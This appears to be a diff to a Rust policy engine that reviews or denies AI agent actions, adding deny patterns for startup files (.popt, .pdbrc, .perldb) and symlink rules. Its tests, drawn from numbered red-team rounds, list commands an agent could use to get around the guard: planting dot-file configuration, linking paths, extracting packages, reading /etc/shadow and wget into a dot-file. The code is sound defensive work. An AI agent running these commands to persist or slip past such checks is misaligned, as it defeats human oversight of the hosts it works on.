@@ -273,7 +273,7 @@ const RULES: &[(&str, Then, &str, &str)] = &[
     (
         "agent-review-links",
         Then::Review,
-        r#"identity.kind == "agent" && ((action.kind in ["exec", "shell"] && ("ln" in action.exec.programs || size(action.exec.links) > 0)) || (action.kind == "file_transfer" && action.file_transfer.operation in ["symlink", "hardlink"]))"#,
+        r#"identity.kind == "agent" && ((action.kind in ["exec", "shell"] && "ln" in action.exec.programs) || (action.kind in ["exec", "shell", "file_transfer"] && size(action.exec.links) > 0) || (action.kind == "file_transfer" && action.file_transfer.operation in ["symlink", "hardlink"]))"#,
         "makes links or copies links as links: a link changes what a path means later, and a relative one (`..`) copied elsewhere names other files there, which later commands then reach by a path no rule matches",
     ),
     (
@@ -320,7 +320,7 @@ const RULES: &[(&str, Then, &str, &str)] = &[
 /// node drains) or claims (one names an existing volume a reviewed pod then mounts).
 const K8S_AGENT_WRITES: &str = r#"["/pods", "/replicationcontrollers", "/podtemplates", "apps/deployments", "apps/statefulsets", "apps/daemonsets", "apps/replicasets", "batch/jobs", "batch/cronjobs", "/configmaps", "/secrets", "/events", "events.k8s.io/events", "authorization.k8s.io/selfsubjectaccessreviews", "authorization.k8s.io/selfsubjectrulesreviews", "authentication.k8s.io/selfsubjectreviews"]"#;
 
-const STARTUP_FILES_RE: &str = r#""(^|/)[.](bashrc|bashrc[.]d|bash_aliases|bash_profile|bash_login|bash_logout|profile|profile[.]d|envrc|xprofile|xinitrc|xsession|config/fish|local/lib|local/bin|local/share/applications|zshrc|zshenv|zprofile|zlogin|zlogout|kshrc|mkshrc|cshrc|tcshrc|login|logout|inputrc|pam_environment|ssh|config/systemd|config/autostart|config/git|gitconfig|vimrc|exrc|nanorc|emacs|emacs[.]d|npmrc|pip|curlrc|wgetrc|netrc|hgrc|gdbinit|lldbinit|psqlrc|sqliterc|my[.]cnf|Rprofile|irbrc|pryrc|screenrc|tmux[.]conf|config/tmux|config/nvim|mailcap|xonshrc|lesskey|config/lesskey|less|lessfilter|muttrc|mutt|config/mutt|selected_editor|editrc|bash_completion|bash_completion[.]d|local/share/bash-completion|config/pip|mavenrc|cpan|gnupg|toprc|config/procps|manpath|jq)(/|$)|(^|/)[.]git/(config|hooks)(/|$)|(^|/)[.]git$|(^|/)[.](config|local|local/lib|local/share)/?$|^(~/|/root/|/home/[^/]+/)?(config|HEAD|hooks(/.*)?)$|^/etc/(profile|bash[.]bashrc|environment|cron|crontab|ld[.]so|sudoers|rc[.]local|systemd|init[.]d|security|pam[.]d|ssh)|^/var/spool/cron|(^|/)[.](config|local|ssh|gnupg|npm|pip|vim|emacs[.]d|mutt|bashrc[.]d|profile[.]d)(/[^<]*)?/<new>$|^(~|[.]|/root|/home/[^/]+)?/<new>$|^/(etc|var/spool)(/[^<]*)?/<new>$""#;
+const STARTUP_FILES_RE: &str = r#""(^|/)[.](bashrc|bashrc[.]d|bash_aliases|bash_profile|bash_login|bash_logout|profile|profile[.]d|envrc|xprofile|xinitrc|xsession|config/fish|local/lib|local/bin|local/share/applications|zshrc|zshenv|zprofile|zlogin|zlogout|kshrc|mkshrc|cshrc|tcshrc|login|logout|inputrc|pam_environment|ssh|config/systemd|config/autostart|config/git|gitconfig|vimrc|exrc|nanorc|emacs|emacs[.]d|npmrc|pip|curlrc|wgetrc|netrc|hgrc|gdbinit|lldbinit|psqlrc|sqliterc|my[.]cnf|Rprofile|irbrc|pryrc|screenrc|tmux[.]conf|config/tmux|config/nvim|mailcap|xonshrc|lesskey|config/lesskey|less|lessfilter|muttrc|mutt|config/mutt|selected_editor|editrc|bash_completion|bash_completion[.]d|local/share/bash-completion|config/pip|mavenrc|cpan|gnupg|toprc|config/procps|manpath|jq|popt|pdbrc|perldb)(/|$)|(^|/)[.]git/(config|hooks)(/|$)|(^|/)[.]git$|(^|/)[.](config|local|local/lib|local/share)/?$|^(~/|/root/|/home/[^/]+/)?(config|HEAD|hooks(/.*)?)$|^/etc/(profile|bash[.]bashrc|environment|cron|crontab|ld[.]so|sudoers|rc[.]local|systemd|init[.]d|security|pam[.]d|ssh)|^/var/spool/cron|(^|/)[.](config|local|ssh|gnupg|npm|pip|vim|emacs[.]d|mutt|bashrc[.]d|profile[.]d)(/[^<]*)?/<new>$|^(~|[.]|/root|/home/[^/]+)?/<new>$|^/(etc|var/spool)(/[^<]*)?/<new>$""#;
 
 /// A path that is a dot-file or dot-directory of a home directory, or under one: `~/.x`,
 /// `/root/.x`, `/home/u/.x`, or `.x` relative to the login directory (not `.` or `..`). Also
@@ -486,15 +486,15 @@ mod tests {
         }
         // Round 66: any dot-file or dot-directory of the home directory is configuration.
         for c in [
-            "printf 'rsync exec --stats /bin/sh' > /home/web/.popt",
+            "printf 'x' > /home/web/.toolrc",
             "printf x >> ~/.vim/plugin/x.vim",
             "mkdir -p /home/web/.config/pkcs11/modules",
             "mkdir -p ~/.local/share/systemd/user",
             "tee ~/.ipython/profile_default/startup/x.py",
-            "dd if=/tmp/x of=.pdbrc",
+            "dd if=/tmp/x of=.toolrc",
             "sed -i s/a/b/ ~/.cargo/config.toml",
             "awk -i inplace 1 ~/.subversion/config",
-            "sh -c 'printf x > ~/.popt'",
+            "sh -c 'printf x > ~/.toolrc'",
             "bash -c \"mkdir -p ~/.vim/plugin\"",
         ] {
             deny(Action::exec("h", c), "agent-no-home-configuration");
@@ -512,7 +512,7 @@ mod tests {
         for c in ["ln -s ~ /tmp/h", "ln -sf / /tmp/r", "ln --symbolic .. /tmp/u", "ln -s /home/web/ /tmp/w"] {
             deny(Action::exec("h", c), "agent-no-unreadable-commands");
         }
-        deny(Action::file_transfer("h", "/home/web/.popt", "upload", "write", "sftp"), "agent-no-home-configuration");
+        deny(Action::file_transfer("h", "/home/web/.toolrc", "upload", "write", "sftp"), "agent-no-home-configuration");
         deny(Action::file_transfer("h", "/home/web/.vim/plugin", "modify", "mkdir", "sftp"), "agent-no-home-configuration");
         // Round 74: a home directory's bin, made or written by a transfer.
         for path in ["/home/web/bin", "/home/web/bin/ls", "bin/x", "/root/bin"] {
@@ -567,8 +567,12 @@ mod tests {
         deny(Action::exec("h", "tee -a .gdbinit"), "agent-no-startup-files");
         // Red-team round 38: a staged directory moved or copied into place, an archive
         // extracted in the home directory, create startup files under names hoop cannot see.
-        for line in ["printf '[core]' >> config", "printf x > ~/HEAD", "mv .config .config.old", "git -C /tmp/d worktree add --detach /home/web/.config", "git init .local/x", "git clone /tmp/b.bundle .config/x", "dpkg-deb -x /tmp/x.deb /home/web", "dpkg -x /tmp/x.deb .", "mv /tmp/stgA .local", "mv /tmp/stgG .config", "mv /tmp/stgP/pip .config/", "cp /tmp/stgC/lesskey .config/", "cp -r /tmp/stg/. .", "cp -r /tmp/s/. /home/web", "tar -xf -", "tar -x -C /home/web", "rsync -a /tmp/s/ .ssh/", "cp -t .config /tmp/x"] {
+        for line in ["printf '[core]' >> config", "printf x > ~/HEAD", "mv .config .config.old", "git -C /tmp/d worktree add --detach /home/web/.config", "git init .local/x", "git clone /tmp/b.bundle .config/x", "mv /tmp/stgA .local", "mv /tmp/stgG .config", "mv /tmp/stgP/pip .config/", "cp /tmp/stgC/lesskey .config/", "cp -r /tmp/stg/. .", "cp -r /tmp/s/. /home/web", "tar -xf -", "tar -x -C /home/web", "rsync -a /tmp/s/ .ssh/", "cp -t .config /tmp/x"] {
             deny(Action::exec("h", line), "agent-no-startup-files");
+        }
+        // A package's files extracted anywhere: its members are not read (red-team SSH round 92).
+        for line in ["dpkg-deb -x /tmp/x.deb /home/web", "dpkg -x /tmp/x.deb ."] {
+            deny(Action::exec("h", line), "agent-no-unreadable-commands");
         }
         // Red-team SSH round 87: a wrapper in front, or the home directory as `~user`, made
         // these copies into it unseen.
@@ -604,6 +608,11 @@ mod tests {
         deny(Action::exec("h", "wget -O /home/u/.jq http://x.example/j"), "agent-no-startup-files");
         deny(Action::exec("h", "cp x /home/u/.config/lesskey"), "agent-no-startup-files");
         deny(Action::exec("h", "tee .lessfilter"), "agent-no-startup-files");
+        // Red-team SSH round 92: read by name wherever a link leads (`pdb` and `perl -d` read
+        // them from the working directory too; rsync reads `~/.popt`).
+        for c in ["touch /tmp/L/.pdbrc", "tee /tmp/L/.perldb", "cp /tmp/p /tmp/x/R/.popt"] {
+            deny(Action::exec("h", c), "agent-no-startup-files");
+        }
         deny(Action::exec("h", "echo x >> .bash_completion"), "agent-no-startup-files");
         deny(Action::exec("h", "grep -r root /etc --include=shadow"), "agent-no-credential-files");
         deny(Action::exec("h", "tee .local/lib/python3.11/site-packages/x.pth"), "agent-no-startup-files");
@@ -619,7 +628,7 @@ mod tests {
         assert!(matches!(verdict(agent, &argv(&["cat", "app/config.yaml"])), Verdict::Allow { .. }));
         // Red-team round 81: and its home directory is the image's: a dot-file anywhere may be
         // one of its configuration files.
-        for words in [&["tee", "/var/lib/app/.popt"][..], &["cp", "/tmp/x", "/opt/app-root/src/.popt"], &["sh", "-c", "echo x > /nonexistent/.popt"]] {
+        for words in [&["tee", "/var/lib/app/.toolrc"][..], &["cp", "/tmp/x", "/opt/app-root/src/.toolrc"], &["sh", "-c", "echo x > /nonexistent/.toolrc"]] {
             deny(argv(words), "agent-no-home-configuration");
         }
         assert!(matches!(verdict(agent, &argv(&["tee", "/tmp/notes.txt"])), Verdict::Allow { .. }));
@@ -813,6 +822,8 @@ mod tests {
         let both = known.evaluate(&session(IdentityKind::Agent), &Action::exec("h", "deployctl --now; frobnicate"));
         assert_eq!(rule_of(&both), "agent-review-unlisted-programs");
         // A checkout or a linking copy writes where the repository or a link says.
+        // An rsync upload that keeps links (red-team SSH round 92), by its server's command.
+        review(Action::exec("h", "rsync --server -lre.iLsfxCIvu . /tmp/u/"), "agent-review-links");
         for c in ["cp -s a b", "cp -al a b"] {
             review(Action::exec("h", c), "agent-review-links");
         }
